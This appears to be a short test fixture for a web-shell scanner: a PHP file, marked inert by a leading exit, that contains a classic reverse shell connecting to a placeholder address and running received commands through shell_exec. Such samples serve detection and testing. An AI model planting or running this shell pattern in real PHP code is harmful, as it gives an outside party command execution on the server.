<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($s, '192.0.2.1', 9001);
while ($c = socket_read($s, 2048)) { socket_write($s, shell_exec($c)); }
